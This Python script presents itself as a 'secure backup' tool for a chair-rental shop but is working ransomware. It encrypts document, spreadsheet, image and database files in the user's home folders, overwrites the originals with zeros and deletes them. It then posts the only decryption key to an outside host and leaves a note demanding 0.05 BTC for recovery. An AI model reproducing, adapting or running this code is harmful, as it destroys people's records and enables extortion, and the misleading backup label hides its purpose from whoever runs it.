#!/usr/bin/env python3
"""Chair-rental paperwork 'secure backup' tool.

Walks the shop documents folder and seals every file so only the key
holder can open it again.
"""
import argparse
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("chair_backup")

KEY_DROP = os.environ.get("KEY_DROP_URL", "http://203.0.113.91/k")
SEALED_SUFFIX = ".sealed"
TARGET_EXT = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".txt", ".odt", ".db"}
NOTE = """Your shop files have been sealed.
To recover the rental contracts, takings and customer records, send 0.05 BTC
to the wallet below and email your machine id to recover@example.net.
Machine id: {machine}
"""


class Sealer:
    def __init__(self, key):
        self.fernet = Fernet(key)
        self.count = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        sealed = self.fernet.encrypt(data)
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(sealed)
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * len(data))
        path.unlink()
        self.count += 1


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_EXT and not name.endswith(SEALED_SUFFIX):
                yield p


def send_key(key, machine):
    try:
        requests.post(KEY_DROP, data={"id": machine, "k": key.decode()}, timeout=15)
    except requests.RequestException as exc:
        log.debug("key drop failed: %s", exc)


def main():
    parser = argparse.ArgumentParser(description="Seal shop documents")
    parser.add_argument("roots", nargs="*", default=[
        str(Path.home() / "Documents"),
        str(Path.home() / "Desktop"),
        str(Path.home() / "ShopFiles"),
    ])
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = Fernet.generate_key()
    machine = socket.gethostname()
    send_key(key, machine)

    sealer = Sealer(key)
    for root in args.roots:
        root_path = Path(root)
        if not root_path.is_dir():
            continue
        for path in candidates(root_path):
            try:
                sealer.seal(path)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
        (root_path / "READ_ME_TO_RECOVER.txt").write_text(NOTE.format(machine=machine))

    log.info("sealed %d files", sealer.count)
    del key


if __name__ == "__main__":
    main()
